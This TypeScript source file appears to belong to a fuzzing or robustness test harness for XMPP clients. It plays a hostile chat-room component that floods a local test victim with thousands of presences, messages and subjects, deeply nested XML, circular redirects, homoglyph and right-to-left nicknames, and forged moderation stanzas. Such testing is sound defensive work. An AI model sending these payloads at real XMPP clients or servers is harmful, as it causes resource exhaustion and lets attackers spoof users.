/** Attack classes "nickname tricks" and "resource exhaustion" in rooms: a component that plays a room which does as it likes. */
import type { Attack, Scene } from "../attack.ts";
import { id, times, toRoom } from "./xml.ts";

const MUC = "http://jabber.org/protocol/muc";
const MUC_USER = `${MUC}#user`;
const ITEM = `<item affiliation="member" role="participant"/>`;

/** We are in. @param codes status codes beside 110 */
const self = (room: string, to: string, nickname: string, codes: readonly (number | string)[] = []): string =>
  `<presence from="${room}/${nickname}" to="${to}"><x xmlns="${MUC_USER}">${ITEM}<status code="110"/>${codes.map((code) => `<status code="${code}"/>`).join("")}</x></presence>`;
const subject = (room: string, to: string, text = ""): string => `<message type="groupchat" from="${room}" to="${to}"><subject>${text}</subject></message>`;
const said = (room: string, to: string, nickname: string, content: string): string =>
  `<message type="groupchat" id="${id()}" from="${room}/${nickname}" to="${to}">${content}</message>`;
const delayed = (room: string): string => `<delay xmlns="urn:xmpp:delay" from="${room}" stamp="2026-01-01T00:00:00Z"/>`;
const gone = (room: string, to: string, nickname: string, codes: readonly number[], more = ""): string =>
  `<presence type="unavailable" from="${room}/${nickname}" to="${to}"><x xmlns="${MUC_USER}"><item affiliation="none" role="none"/><status code="110"/>${codes.map((code) => `<status code="${code}"/>`).join("")}${more}</x></presence>`;

/** A room of the component that the victim enters. @param gets what it sends to who enters */
function room(name: string, what: string, gets: (room: string, to: string, nickname: string, scene: Scene) => string): Attack {
  const jid = `${name}@crowd.localhost`;
  return { name: what, where: "component", send: async (scene) => {
    scene.onEntering(jid, (to, nickname) => gets(jid, to, nickname, scene));
    await scene.victim.enter(jid);
  } };
}

const poison = times(101, (at) => `a${at}="1" `);

export const rooms: Attack[] = [
  room("codes", "status codes of all kinds and of none", (jid, to, nickname) => self(jid, to, nickname, [100, 170, 201, 210, 0, -1, 99999999999, "x", "", "constructor"]) + subject(jid, to)),
  room("no-item", "presences without item, without x, and without a nickname", (jid, to, nickname) =>
    `<presence from="${jid}/a" to="${to}"><x xmlns="${MUC_USER}"/></presence><presence from="${jid}/b" to="${to}"/><presence from="${jid}" to="${to}"><x xmlns="${MUC_USER}">${ITEM}<status code="110"/></x></presence>` + self(jid, to, nickname) + subject(jid, to)),
  room("self-flood", "our own presence 3,000 times", (jid, to, nickname) => times(3_000, () => self(jid, to, nickname)) + subject(jid, to)),
  room("renames", "our nickname is changed 1,000 times", (jid, to, nickname) =>
    self(jid, to, nickname) + subject(jid, to) + times(1_000, (at) => {
      const [old, fresh] = [at === 0 ? nickname : `me${at}`, `me${at + 1}`];
      return `<presence type="unavailable" from="${jid}/${old}" to="${to}"><x xmlns="${MUC_USER}"><item affiliation="member" role="participant" nick="${fresh}"/><status code="303"/><status code="110"/></x></presence>${self(jid, to, fresh)}`;
    })),
  room("kicks", "we are kicked and let in 500 times", (jid, to, nickname) => times(500, () => self(jid, to, nickname) + gone(jid, to, nickname, [307])) + self(jid, to, nickname) + subject(jid, to)),
  room("kicked", "we are kicked for a technical reason each time that we enter", (jid, to, nickname) => self(jid, to, nickname) + subject(jid, to) + gone(jid, to, nickname, [307, 333])),
  room("bans", "we are banned each time that we enter", (jid, to, nickname) => self(jid, to, nickname) + gone(jid, to, nickname, [301])),
  room("destroyed", "the room is destroyed in favour of itself", (jid, to, nickname) => self(jid, to, nickname) + gone(jid, to, nickname, [], `<destroy jid="${jid}"><reason>x</reason></destroy>`)),
  ...([["gone", "redirects in a circle"], ["redirect", "redirects to itself"]] as const).map(([condition, what]) =>
    room(`${condition}-1`, what, (jid, to, nickname) => {
      const next = condition === "gone" ? "gone-2@crowd.localhost" : jid;
      return `<presence type="error" from="${jid}/${nickname}" to="${to}"><error type="modify"><${condition} xmlns="urn:ietf:params:xml:ns:xmpp-stanzas">xmpp:${next}?join</${condition}></error></presence>`;
    })),
  room("conflict", "our nickname is always taken", (jid, to, nickname) => `<presence type="error" from="${jid}/${nickname}" to="${to}"><error type="cancel"><conflict xmlns="urn:ietf:params:xml:ns:xmpp-stanzas"/></error></presence>`),
  room("history", "a history of 3,000 messages, some of them poison", (jid, to, nickname) =>
    self(jid, to, nickname) + times(3_000, (at) => said(jid, to, `old${at % 50}`, `<body>old ${at}</body>${delayed(jid)}${at % 500 === 0 ? `<x xmlns="urn:evil" ${poison}/>` : ""}`)) + subject(jid, to)),
  room("deep-history", "a history of messages with 500 levels of nesting", (jid, to, nickname) =>
    self(jid, to, nickname) + times(20, () => said(jid, to, "old", `<body>old</body>${delayed(jid)}<x xmlns="urn:evil">${"<x>".repeat(500)}${"</x>".repeat(500)}</x>`)) + subject(jid, to)),
  room("subjects", "2,000 subjects, and one of 200 kB", (jid, to, nickname) => self(jid, to, nickname) + times(2_000, (at) => subject(jid, to, `subject ${at}`)) + subject(jid, to, "s".repeat(200_000))),
  room("changes", "1,000 changes of its configuration", (jid, to, nickname) =>
    self(jid, to, nickname) + subject(jid, to) + times(1_000, (at) => `<message type="groupchat" from="${jid}" to="${to}"><x xmlns="${MUC_USER}"><status code="${[102, 103, 104, 170, 171, 172, 173][at % 7]!}"/></x></message>`)),
  room("nicknames", "nicknames of 10 kB, homoglyphs, and right to left", (jid, to, nickname) =>
    ["n".repeat(1_000), "\u0410lice", "Alice\u200b", "\u202eecilA", "a\u0315\u0300".repeat(250), "\u{1f468}\u200d".repeat(200), " ", "/", "@"].map((one) => `<presence from="${jid}/${one}" to="${to}"><x xmlns="${MUC_USER}">${ITEM}</x></presence>${said(jid, to, one, "<body>hello</body>")}`).join("") + self(jid, to, nickname) + subject(jid, to)),
  room("crowd-10000", "10,000 occupants", (jid, to, nickname) =>
    times(10_000, (at) => `<presence from="${jid}/person ${at}" to="${to}"><x xmlns="${MUC_USER}">${ITEM}</x></presence>`) + self(jid, to, nickname) + subject(jid, to)),
  room("revolving", "5,000 occupants who come and go", (jid, to, nickname) =>
    self(jid, to, nickname) + subject(jid, to) + times(5_000, (at) => `<presence from="${jid}/p${at}" to="${to}"><x xmlns="${MUC_USER}">${ITEM}</x></presence><presence type="unavailable" from="${jid}/p${at}" to="${to}"><x xmlns="${MUC_USER}"><item affiliation="none" role="none"/></x></presence>`)),
  room("hats", "an occupant with 1,000 hats and items", (jid, to, nickname) =>
    `<presence from="${jid}/hatter" to="${to}"><hats xmlns="urn:xmpp:hats:0">${times(1_000, (at) => `<hat uri="urn:${at}" title="${at}"/>`)}</hats><x xmlns="${MUC_USER}">${times(1_000, (at) => `<item affiliation="owner" role="moderator" jid="p${at}@localhost"/>`)}</x></presence>` + self(jid, to, nickname) + subject(jid, to)),
  room("ids", "occupant ids of 100 kB, doubled, and of nobody", (jid, to, nickname) =>
    times(3, (at) => `<presence from="${jid}/o${at}" to="${to}"><occupant-id xmlns="urn:xmpp:occupant-id:0" id="${"o".repeat(at * 50_000)}"/><x xmlns="${MUC_USER}">${ITEM}</x></presence>`) + self(jid, to, nickname) + subject(jid, to)),
  room("voice", "1,000 requests for voice", (jid, to, nickname) =>
    self(jid, to, nickname) + subject(jid, to) + times(1_000, (at) => `<message from="${jid}" to="${to}"><x xmlns="jabber:x:data" type="form"><field var="FORM_TYPE" type="hidden"><value>${MUC}#request</value></field><field var="muc#role"><value>participant</value></field><field var="muc#jid"><value>p${at}@localhost/x</value></field><field var="muc#roomnick"><value>p${at}</value></field></x></message>`)),
  room("silent", "an entering that is never answered", () => ""),
  { name: "a nickname of 10 kB, and fifty changes of it", where: "room message", send: ({ write, room: hall }) => {
    write(`<presence to="${hall}/${"n".repeat(1_000)}"/>`);
    for (let count = 0; count < 50; count++) write(`<presence to="${hall}/Mallory ${count}"/>`);
    write(`<presence to="${hall}/Mallory"/>`);
  } },
  { name: "300 private messages in a room", where: "room message", send: ({ write, room: hall, victim }) => {
    for (let count = 0; count < 300; count++) write(`<message to="${hall}/${victim.nickname}" type="chat" id="${id()}"><body>private ${count}</body><x xmlns="${MUC_USER}"/></message>`);
  } },
  { name: "a moderation and a tombstone that nobody may give", where: "room message", send: (scene) => {
    toRoom(scene, `<apply-to xmlns="urn:xmpp:fasten:0" id="x"><moderated xmlns="urn:xmpp:message-moderate:0" by="${scene.room}/Bob"><retract xmlns="urn:xmpp:message-retract:0"/></moderated></apply-to>`);
    toRoom(scene, `<retract xmlns="urn:xmpp:message-retract:1" id="x"><moderated xmlns="urn:xmpp:message-moderate:1"/><reason>${"r".repeat(50_000)}</reason></retract>`);
    toRoom(scene, `<retracted xmlns="urn:xmpp:message-retract:1" stamp="x" id="${"i".repeat(50_000)}"/>`);
  } },
];
